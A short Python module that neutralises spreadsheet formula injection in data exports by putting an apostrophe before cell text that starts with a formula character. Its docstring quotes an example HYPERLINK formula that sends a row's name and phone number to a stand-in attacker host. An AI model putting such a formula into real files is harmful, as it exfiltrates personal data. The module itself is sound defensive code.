"""Spreadsheet cells as inert text.

Excel and WPS start a formula (or a DDE call) at a leading ``= + - @``, tab or line break. A care
note like ``=HYPERLINK("http://evil.example/?"&A2&B2, …)`` would send the row's name and phone
number away when the export is opened. Such text gets an apostrophe in front, the convention
spreadsheet users know for "this is text"; reading a file back takes it off again.
"""
from __future__ import annotations

#: Leading characters that make a spreadsheet program read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
ESCAPE = "'"


def inert(value):
    """Text that a spreadsheet shows as text; numbers and everything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return ESCAPE + value
    return value


def uninert(text: str) -> str:
    """The text :func:`inert` was given (for reading an export back in)."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text
